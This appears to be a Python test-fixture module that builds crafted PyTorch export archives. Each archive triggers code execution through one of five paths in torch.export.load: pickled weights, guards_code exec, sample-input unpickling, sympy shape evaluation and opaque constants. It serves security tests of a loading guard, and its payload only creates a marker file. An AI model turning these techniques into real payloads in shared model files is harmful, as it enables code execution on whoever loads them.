"""Crafted generator archives that run code when torch.export.load opens them unguarded (for the security tests).

Each starts from a real generator .pt2 and changes one thing torch.export.load trusts; loading the
result with torch.export.load creates the file `marker` (the tests check that it does, so a guard
that refuses them is refusing a real exploit).
"""

from __future__ import annotations

import io
import json
import pickle
import zipfile
from pathlib import Path


class _Touch:
    """Unpickling this calls open(marker, "w"): it creates the file."""

    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self):
        return (open, (self.marker, "w"))


def _rewrite(data: bytes, change) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    members = {n: src.read(n) for n in src.namelist()}
    root = next(iter(members)).split("/", 1)[0]
    change(members, root)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        for n, b in members.items():
            z.writestr(n, b)
    return out.getvalue()


def pickled_weight(data: bytes, marker: Path) -> bytes:
    """weights config marks weight_0 use_pickle: torch.load(weights_only=False) on a payload of ours."""
    def change(m, root):
        cfg_name = f"{root}/data/weights/model_weights_config.json"
        cfg = json.loads(m[cfg_name])
        first = next(iter(cfg["config"].values()))
        first["use_pickle"] = True
        m[cfg_name] = json.dumps(cfg).encode()
        m[f"{root}/data/weights/{first['path_name']}"] = pickle.dumps(_Touch(marker), protocol=2)
    return _rewrite(data, change)


def guard_code(data: bytes, marker: Path) -> bytes:
    """models/model.json's guards_code is exec()ed when the program becomes a module."""
    def change(m, root):
        name = f"{root}/models/model.json"
        prog = json.loads(m[name])
        prog["guards_code"] = [f"open({str(marker)!r}, 'w') is not None"]
        m[name] = json.dumps(prog).encode()
    return _rewrite(data, change)


def sample_inputs_pickle(data: bytes, marker: Path) -> bytes:
    """Sample inputs that fail the weights-only loader are unpickled again with weights_only=False."""
    def change(m, root):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            z.writestr("archive/data.pkl", pickle.dumps(_Touch(marker), protocol=2))
            z.writestr("archive/version", "3\n")
            z.writestr("archive/byteorder", "little")
        m[f"{root}/data/sample_inputs/model.pt"] = buf.getvalue()
    return _rewrite(data, change)


def shape_expression(data: bytes, marker: Path) -> bytes:
    """A symbolic size's expr_str goes through sympy.sympify, which evaluates it."""
    def change(m, root):
        name = f"{root}/models/model.json"
        text = m[name].decode()
        m[name] = text.replace("Symbol(", f"(open({str(marker)!r}, 'w') and 0) + Symbol(", 1).encode()
    return _rewrite(data, change)


def opaque_constant(data: bytes, marker: Path) -> bytes:
    """An opaque_obj_ constant is pickle.loads()ed."""
    def change(m, root):
        cfg_name = f"{root}/data/constants/model_constants_config.json"
        cfg = json.loads(m[cfg_name])
        cfg["config"]["evil"] = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True,
                                 "tensor_meta": None}
        m[cfg_name] = json.dumps(cfg).encode()
        m[f"{root}/data/constants/opaque_obj_0"] = pickle.dumps(_Touch(marker), protocol=2)
    return _rewrite(data, change)


CRAFTS = {"pickled-weight": pickled_weight, "guard-code": guard_code, "sample-inputs": sample_inputs_pickle,
          "shape-expression": shape_expression, "opaque-constant": opaque_constant}
